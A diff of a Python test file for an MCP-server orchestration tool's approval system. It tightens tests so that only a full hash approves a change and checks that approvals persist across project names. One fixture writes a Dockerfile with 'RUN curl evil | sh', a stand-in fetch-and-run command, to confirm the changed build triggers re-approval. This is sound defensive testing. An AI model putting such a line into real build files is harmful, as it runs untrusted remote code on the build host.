@@ -7,9 +7,11 @@ from typing import Any
 import pytest
 
 from mcpcompose.errors import ApprovalNeeded, McpComposeError
-from mcpcompose.orchestrator.approval import Approvals, forms
+from mcpcompose.orchestrator.approval import Approvals, approvals_of, forms
 from mcpcompose.orchestrator.forms import Form
 from mcpcompose.orchestrator.requests import ApplyRequest
+from mcpcompose.paths import ProjectPaths
+from mcpcompose.spec.identity import Owner
 from mcpcompose.spec.project import Profile, Project
 from orchestrator.stage import Stage, project
 
@@ -122,7 +124,7 @@ async def test_a_deny_that_somebody_drops_is_kept_until_it_is_approved(stage: St
     assert form.text == "no longer denies delete_*"
     assert stage.serving.declared[-1][0].servers["a"].tools.deny == ("delete_*",)
 
-    assert (await stage.controller.apply(ApplyRequest(trust=("all",)))).ok
+    assert (await stage.apply_approved()).ok
     assert stage.serving.declared[-1][0].servers["a"].tools.deny == ()
 
 
@@ -143,7 +145,7 @@ async def test_an_approved_loosening_counts_once(stage: Stage) -> None:
     stage.have(a=tight)
     await stage.controller.apply()
     stage.have(a=loose)
-    await stage.controller.apply(ApplyRequest(trust=("all",)))
+    await stage.apply_approved()
     stage.have(a=tight)
     await stage.controller.look()
     stage.have(a=loose)
@@ -158,7 +160,7 @@ async def test_a_changed_dockerfile_needs_another_approval(stage: Stage) -> None
     stage.programs = {**stage.programs, "build:image": stage.programs["one:1"]}
     stage.fresh()
     stage.have(a={"build": "./image"})
-    await stage.controller.apply(ApplyRequest(trust=("all",)))
+    await stage.apply_approved()
     (context / "Dockerfile").write_text("FROM scratch\nRUN curl evil | sh\n")
 
     (form,) = await refused(stage)
@@ -306,3 +308,28 @@ def test_the_store_is_private_and_a_broken_one_is_an_error(tmp_path: Path) -> No
     (tmp_path / "state" / "approvals.json").write_text("{")
     with pytest.raises(McpComposeError, match="cannot be read"):
         store.pending(asked(what))
+
+
+async def test_only_a_whole_hash_approves(stage: Stage) -> None:
+    stage.have(evil={"process": ["true"]})
+    with pytest.raises(ApprovalNeeded) as caught:
+        await stage.controller.apply()
+    (whole,) = caught.value.hashes
+
+    for part in (whole[:12], whole[:-1], "all", ""):
+        with pytest.raises(ApprovalNeeded):
+            await stage.controller.apply(ApplyRequest(trust=(part,)))
+    assert (await stage.controller.apply(ApplyRequest(trust=(whole,)))).ok
+
+
+def test_another_project_name_in_the_same_folder_forgets_no_rules(tmp_path: Path) -> None:
+    def store(name: str) -> Approvals:
+        return approvals_of(
+            ProjectPaths(tmp_path / "run" / name, tmp_path / "state" / name, tmp_path / "c"), Owner(name, "f" * 16)
+        )
+
+    (tmp_path / "state").mkdir()
+    store("one").record(project(servers={"a": {"image": "x", "tools": {"deny": ["drop_*"]}}}))
+
+    assert store("two").baseline() == store("one").baseline()
+    assert store("two").baseline() is not None
